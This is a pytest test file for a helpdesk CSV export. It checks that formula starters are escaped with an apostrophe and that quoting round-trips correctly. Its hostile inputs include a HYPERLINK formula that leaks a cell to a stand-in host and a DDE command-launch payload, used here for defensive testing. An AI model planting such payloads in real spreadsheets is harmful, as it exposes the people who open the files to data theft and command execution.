"""Spreadsheet-safe CSV: formula starters are neutralised, quoting is left to the csv module."""

from __future__ import annotations

import csv
import io

import pytest

from helpdesk.services.csv_export import csv_lines, escape_cell


@pytest.mark.parametrize(
    "hostile",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "+41 44 668 18 00",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "=cmd|' /C calc'!A0",
        "\uff1d1+1",  # full-width equals sign
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
    ],
)
def test_formula_starters_get_a_leading_apostrophe(hostile: str) -> None:
    assert escape_cell(hostile) == "'" + hostile


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("plain text", "plain text"),
        (" =not a formula start", " =not a formula start"),
        ("a=b", "a=b"),
        ("user@example.test", "user@example.test"),
        ("'already quoted", "'already quoted"),
        ("", ""),
        (None, ""),
        (42, "42"),
        (-5, "'-5"),  # a negative number reads as text: the safe side
    ],
)
def test_other_cells_are_left_alone(value: object, text: str) -> None:
    assert escape_cell(value) == text


def test_lines_parse_back_with_quoting_and_escaping() -> None:
    rows = [
        ("seq", "note"),
        (1, 'comma, "quotes" and\nnewline'),
        (2, "=1+1"),
        (3, None),
    ]
    lines = list(csv_lines(rows))
    assert len(lines) == 4 and all(line.endswith("\r\n") for line in lines)
    parsed = list(csv.reader(io.StringIO("".join(lines))))
    assert parsed == [
        ["seq", "note"],
        ["1", 'comma, "quotes" and\nnewline'],
        ["2", "'=1+1"],
        ["3", ""],
    ]


def test_lines_are_produced_lazily() -> None:
    def rows():  # type: ignore[no-untyped-def]
        yield ("a",)
        raise AssertionError("read past the first line")

    assert next(csv_lines(rows())) == "a\r\n"
